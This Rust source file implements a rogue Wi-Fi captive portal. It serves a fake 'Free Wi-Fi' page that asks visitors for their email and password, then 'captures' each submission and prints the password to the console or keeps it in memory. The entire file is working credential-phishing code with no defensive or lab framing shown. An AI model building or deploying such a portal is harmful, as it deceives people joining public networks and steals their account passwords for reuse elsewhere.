//! Captive portal
//!
//! A single-page HTTP surface on the gateway address. `GET /` shows a sign-in
//! form; `POST /` hands the submitted fields to the injected
//! [`CredentialSink`] and thanks the client. Nothing else is routed. The
//! server drains and returns once the run's [`Shutdown`] is requested.

use crate::error::PortalError;
use crate::shutdown::Shutdown;
use axum::{
    Form, Router,
    extract::State,
    response::Html,
    routing::get,
};
use serde::Deserialize;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::SystemTime;
use tracing::info;

const SIGN_IN_PAGE: &str = r#"<!DOCTYPE html>
<html>
<head><title>Free Wi-Fi</title></head>
<body>
    <h1>Welcome to Free Wi-Fi</h1>
    <form method="POST">
        Email: <input type="text" name="email"><br>
        Password: <input type="password" name="password"><br>
        <input type="submit" value="Connect">
    </form>
</body>
</html>
"#;

const THANK_YOU: &str = "Thank you for connecting!";

/// One form submission.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CapturedCredential {
    pub email: String,
    pub password: String,
    pub captured_at: SystemTime,
}

/// Where captured submissions go.
pub trait CredentialSink: Send + Sync {
    fn record(&self, credential: &CapturedCredential);
}

/// One tracing event and one console line per submission. Nothing persisted.
#[derive(Debug, Default, Clone, Copy)]
pub struct LogSink;

impl CredentialSink for LogSink {
    fn record(&self, credential: &CapturedCredential) {
        info!(email = %credential.email, "Captured portal submission");
        println!(
            "[*] Captured credentials - Email: {}, Password: {}",
            credential.email, credential.password
        );
    }
}

/// Keeps submissions in memory; used where the caller inspects them afterwards.
#[derive(Debug, Default)]
pub struct MemorySink {
    captured: Mutex<Vec<CapturedCredential>>,
}

impl MemorySink {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn captured(&self) -> Vec<CapturedCredential> {
        self.captured
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner())
            .clone()
    }
}

impl CredentialSink for MemorySink {
    fn record(&self, credential: &CapturedCredential) {
        self.captured
            .lock()
            .unwrap_or_else(|poisoned| poisoned.into_inner())
            .push(credential.clone());
    }
}

/// Blocks serving the portal until `shutdown` is requested or the server
/// faults. A requested shutdown returns `Ok(())`.
pub trait PortalServer {
    fn serve(
        &self,
        addr: SocketAddr,
        sink: Arc<dyn CredentialSink>,
        shutdown: Arc<Shutdown>,
    ) -> Result<(), PortalError>;
}

#[derive(Clone)]
struct PortalState {
    sink: Arc<dyn CredentialSink>,
}

/// Missing fields are recorded as empty rather than rejected.
#[derive(Debug, Deserialize)]
struct PortalForm {
    #[serde(default)]
    email: String,
    #[serde(default)]
    password: String,
}

/// Portal routes bound to `sink`.
pub fn router(sink: Arc<dyn CredentialSink>) -> Router {
    Router::new()
        .route("/", get(show_form).post(capture))
        .with_state(PortalState { sink })
}

async fn show_form() -> Html<&'static str> {
    Html(SIGN_IN_PAGE)
}

async fn capture(State(state): State<PortalState>, Form(form): Form<PortalForm>) -> Html<&'static str> {
    state.sink.record(&CapturedCredential {
        email: form.email,
        password: form.password,
        captured_at: SystemTime::now(),
    });
    Html(THANK_YOU)
}

/// axum on a current-thread tokio runtime owned by the calling thread.
#[derive(Debug, Default, Clone, Copy)]
pub struct AxumPortal;

impl PortalServer for AxumPortal {
    fn serve(
        &self,
        addr: SocketAddr,
        sink: Arc<dyn CredentialSink>,
        shutdown: Arc<Shutdown>,
    ) -> Result<(), PortalError> {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .map_err(PortalError::Runtime)?;

        runtime.block_on(async move {
            let listener = tokio::net::TcpListener::bind(addr)
                .await
                .map_err(|source| PortalError::Bind { addr, source })?;
            info!("Captive portal listening on http://{}", addr);
            println!("[*] Captive portal running on http://{}", addr);

            axum::serve(listener, router(sink))
                .with_graceful_shutdown(async move {
                    shutdown.requested().await;
                    info!("Captive portal shutting down");
                })
                .await
                .map_err(PortalError::Serve)
        })
    }
}
